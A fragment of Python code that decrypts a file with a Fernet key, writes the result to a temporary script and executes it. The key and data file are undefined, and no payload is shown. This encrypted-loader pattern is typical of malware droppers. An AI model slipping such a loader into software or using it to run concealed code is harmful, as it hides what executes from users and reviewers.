import runpy, tempfile
from cryptography.fernet import Fernet

src = Fernet(K).decrypt(open(DATA, "rb").read())
with tempfile.NamedTemporaryFile(suffix=".py", delete=False) as t:
    t.write(src)
runpy.run_path(t.name)
